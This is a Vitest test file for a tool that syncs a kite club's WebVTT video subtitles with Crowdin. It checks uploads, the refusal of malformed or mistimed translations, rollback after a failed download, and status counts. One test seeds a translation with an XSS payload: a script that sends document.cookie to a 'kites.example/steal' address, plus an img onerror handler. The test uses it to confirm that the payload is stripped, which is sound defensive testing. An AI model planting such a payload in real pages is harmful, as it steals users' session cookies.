import { existsSync, readFileSync } from 'node:fs';
import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readSubtitles } from '../../src/security/subtitles.ts';
import { CrowdinEmulator } from '../crowdin-emulator/server.ts';
import { runCrowdin } from '../support/crowdin-cli.ts';
import { createFixtureProject } from '../support/fixture-project.ts';
import { folderSnapshot } from '../support/folder-snapshot.ts';
import { projectRoot } from '../support/paths.ts';
import { runScript } from '../support/run-script.ts';

/**
 * A kite club's video lesson with English subtitles goes to Crowdin as a WebVTT file and comes back as
 * `content/videos/<name>.<tag>.vtt`, next to the video; files that are not WebVTT, or whose cues are not the
 * English file's, are refused and the file in place is kept.
 */
const ENGLISH = [
	'WEBVTT',
	'',
	'NOTE Kite club, lesson 4: tying the bridle.',
	'',
	'intro',
	'00:00:00.000 --> 00:00:03.000',
	"<v Ama>Today we tie the bridle, the line that sets the kite's angle.",
	'',
	'00:00:03.000 --> 00:00:06.500',
	'Measure <b>two arm-lengths</b> of line.',
	'',
	'00:00:06.500 --> 00:00:09.000 line:85%',
	'Knot it <i>above</i> the cross of the spars.',
	'',
].join('\n');

/** A translator's Spanish, cue for cue (Crowdin keeps the English file's notes, ids and settings). */
const SPANISH_CUES = [
	'<v Ama>Hoy atamos la brida, el hilo que fija el ángulo del papalote.',
	'Mide <b>dos brazos</b> de hilo.',
	'Anúdalo <i>encima</i> del cruce de las varillas.',
];
const cuesAt = (timings: readonly string[], texts: readonly string[]) =>
	['WEBVTT', '', ...texts.flatMap((text, index) => [timings[index]!, text, ''])].join('\n');
const TIMINGS = ['00:00:00.000 --> 00:00:03.000', '00:00:03.000 --> 00:00:06.500', '00:00:06.500 --> 00:00:09.000'];
/** What Crowdin exports for the Spanish: the English file line for line, each cue's text translated. */
const SPANISH_EXPORT = ENGLISH.replace("<v Ama>Today we tie the bridle, the line that sets the kite's angle.", SPANISH_CUES[0]!)
	.replace('Measure <b>two arm-lengths</b> of line.', SPANISH_CUES[1]!)
	.replace('Knot it <i>above</i> the cross of the spars.', SPANISH_CUES[2]!);

const SUBTITLES = 'content/videos/bridle';
const spanishFile = `${SUBTITLES}.es-419.vtt`;
const arabicFile = `${SUBTITLES}.ar.vtt`;

let emulator: CrowdinEmulator;
let root: string;
let uploaded: { code: number | null; output: string };
const download = (...args: string[]) => runCrowdin(root, emulator, ['download', ...args]);
const read = (file: string) => readFile(path.join(root, file), 'utf8');
const contentSnapshot = () => folderSnapshot(path.join(root, 'content'));

beforeAll(async () => {
	emulator = await new CrowdinEmulator().start();
	root = await createFixtureProject('crowdin-subtitles', {
		'content/videos/bridle.webm': readFileSync(path.join(projectRoot, 'tests/fixtures/video/lesson.webm')),
		[`${SUBTITLES}.en.vtt`]: ENGLISH,
		// Korean subtitles written by hand: a translation, never a source.
		[`${SUBTITLES}.ko.vtt`]: cuesAt(TIMINGS, ['연줄을 묶습니다.', '줄을 두 팔 길이만큼 잽니다.', '살대가 만나는 곳 위에 매듭을 지읍니다.']),
	});
	uploaded = await runCrowdin(root, emulator, ['upload']);
});
afterAll(() => emulator.stop());

describe('subtitles in Crowdin', () => {
	it('uploads the English subtitles as a WebVTT file (Crowdin type vtt) with a context for translators', () => {
		expect(uploaded.code, uploaded.output).toBe(0);
		expect(uploaded.output).toContain('content/videos/**/*.en.vtt');
		const file = emulator.fileByPath('/content/videos/bridle.vtt')!;
		expect(file.type).toBe('vtt');
		expect(file.content.toString('utf8')).toBe(ENGLISH);
		expect(file.context).toContain('Subtitles of the video content/videos/bridle.webm (3 cues, 25 words)');
		expect(file.context).toContain('Keep the timings as they are');
		expect(file.context).toContain('<b>, <i>, <u>, <c.class>, <lang xx>, <ruby>/<rt>, and <v Name>');
		expect(file.context).toMatch(/Keep each cue short.*at most two lines of about 42 characters/);
		// Only English is a source: the Korean file stays out of Crowdin.
		expect([...emulator.files.values()].filter((candidate) => candidate.path.startsWith('/content/videos/')).map((candidate) => candidate.path)).toEqual([
			'/content/videos/bridle.vtt',
		]);
	});

	it("writes a translator's Spanish as content/videos/bridle.es-419.vtt, and nothing for a locale not fully translated", async () => {
		emulator.seedTranslation('es-419', '/content/videos/bridle.vtt', cuesAt(TIMINGS, SPANISH_CUES));
		emulator.seedTranslation('pt-BR', '/content/videos/bridle.vtt', cuesAt(TIMINGS, ['Hoje amarramos o freio.', 'Meça.', 'Amarre.']), 60);
		const result = await download();
		expect(result.code, result.output).toBe(0);
		expect(result.output).toContain(`write ${spanishFile}`);
		expect(await read(spanishFile)).toBe(SPANISH_EXPORT);
		expect(result.output).toContain(`skipped ${SUBTITLES}.pt-BR.vtt: 60% translated; subtitles are published at 100%`);
		expect(existsSync(path.join(root, `${SUBTITLES}.pt-BR.vtt`))).toBe(false);
	});

	it('accepts a translation with HTML in its cues, says what is left out with file and line, and the site publishes it without', async () => {
		const hostile = [
			`<v Ama>اليوم نربط اللجام<script>fetch('https://kites.example/steal?c=' + document.cookie)</script>`,
			'قِس <b>ذراعين</b> من الخيط <img src=x onerror="alert(1)">',
			'اعقده <i>فوق</i> تقاطع العودين.',
		];
		emulator.seedTranslation('ar', '/content/videos/bridle.vtt', cuesAt(TIMINGS, hostile));
		const result = await download('--locale', 'ar');
		expect(result.code, result.output).toBe(0);
		expect(result.output).toContain(`write ${arabicFile}`);
		// The lines of the cues' timings in the file as written (the English file's layout).
		expect(result.output).toContain(`WARNING ${arabicFile}:6: <script> is not subtitle markup and is left out`);
		expect(result.output).toContain(`WARNING ${arabicFile}:9: <img> is not subtitle markup and is left out`);
		const published = readSubtitles(arabicFile, await read(arabicFile)).published!;
		expect(published).toContain('<b>ذراعين</b>');
		expect(published).not.toMatch(/<script|<img|onerror/);
	});

	it('refuses a translation that is not WebVTT, naming file and line, and keeps every file as it was', async () => {
		emulator.seedTranslation('es-419', '/content/videos/bridle.vtt', '1\n00:00:00,000 --> 00:00:03,000\nHoy atamos la brida.\n');
		const before = await contentSnapshot();
		const result = await download('--locale', 'es-419');
		expect(result.code).toBe(1);
		expect(result.output).toContain(
			`REJECTED ${spanishFile}: ${spanishFile}:1: is not a WebVTT file: its first line must be "WEBVTT" (save it as WebVTT, not SRT); the file in place is kept`,
		);
		expect(await contentSnapshot()).toEqual(before);
		expect(await read(spanishFile)).toBe(SPANISH_EXPORT);
	});

	it('refuses a translation whose timings are not the English file’s, with the first difference, until the English is uploaded', async () => {
		emulator.seedTranslation('es-419', '/content/videos/bridle.vtt', cuesAt(TIMINGS, SPANISH_CUES));
		// The English is retimed here, not yet in Crowdin: its Spanish still has the old timings.
		const retimed = ENGLISH.replace('00:00:03.000 --> 00:00:06.500', '00:00:03.400 --> 00:00:06.500');
		await writeFile(path.join(root, `${SUBTITLES}.en.vtt`), retimed);
		const before = await contentSnapshot();
		const refused = await download('--locale', 'es-419');
		expect(refused.code).toBe(1);
		expect(refused.output).toContain(
			`REJECTED ${spanishFile}: ${spanishFile}:9: cue 2 is timed 00:00:03.000 --> 00:00:06.500, but ${SUBTITLES}.en.vtt:9 has 00:00:03.400 --> 00:00:06.500. Crowdin keeps the timings of the English it has, so upload ${SUBTITLES}.en.vtt again (npm run crowdin -- upload) if it was retimed`,
		);
		expect(await contentSnapshot()).toEqual(before);

		// As the message says: once Crowdin has the new English, its export has the new timings and the Spanish kept.
		expect((await runCrowdin(root, emulator, ['upload'])).output).toContain('1 updated');
		const fixed = await download('--locale', 'es-419');
		expect(fixed.code, fixed.output).toBe(0);
		expect(await read(spanishFile)).toBe(SPANISH_EXPORT.replace('00:00:03.000 --> 00:00:06.500', '00:00:03.400 --> 00:00:06.500'));
	});

	it('a download that fails while applying leaves the subtitles and the state file exactly as they were', async () => {
		const spanish = [...SPANISH_CUES];
		spanish[2] = 'Anúdalo <i>justo encima</i> del cruce de las varillas.';
		emulator.seedTranslation('es-419', '/content/videos/bridle.vtt', cuesAt([TIMINGS[0]!, '00:00:03.400 --> 00:00:06.500', TIMINGS[2]!], spanish));
		const before = await contentSnapshot();
		const state = await read('translation-state.json');
		const failed = await runCrowdin(root, emulator, ['download', '--locale', 'es-419'], { GLOSSA_SYNC_FAIL_AFTER_MOVES: '1' });
		expect(failed.code).toBe(1);
		expect(failed.output).toContain('injected failure after 1 move(s)');
		expect(await contentSnapshot()).toEqual(before);
		expect(await read('translation-state.json')).toBe(state);
		expect(existsSync(path.join(root, '.glossa-sync'))).toBe(false);
	});
	it('npm run i18n -- status counts the videos with subtitles per locale, in its table and its JSON', async () => {
		const json = await runScript(root, 'scripts/i18n/cli.ts', ['status', '--json']);
		expect(json.code, json.output).toBe(0);
		const figures = Object.fromEntries(
			(JSON.parse(json.output) as { locale: string; subtitles: { videos: number; subtitled: number; words: { total: number; subtitled: number } } }[]).map(
				(entry) => [entry.locale, entry.subtitles],
			),
		);
		// es-419 and ar came from Crowdin, ko was written by hand; pt-BR was not written (60% translated).
		expect(figures['es-419']).toEqual({ videos: 1, subtitled: 1, words: { total: 25, subtitled: 25 } });
		expect(figures['ar']).toMatchObject({ subtitled: 1 });
		expect(figures['ko']).toMatchObject({ subtitled: 1 });
		expect(figures['pt-BR']).toEqual({ videos: 1, subtitled: 0, words: { total: 25, subtitled: 0 } });
		const text = await runScript(root, 'scripts/i18n/cli.ts', ['status', '--locale', 'pt-BR']);
		expect(text.output).toMatch(/\bsubtitles\b/);
		expect(text.output).toMatch(/pt-BR\s.*\s0\/1\s/);
		expect(text.output).toContain('Subtitles: 0 of 1 video with English subtitles (0 of 25 English words)');
	});
});
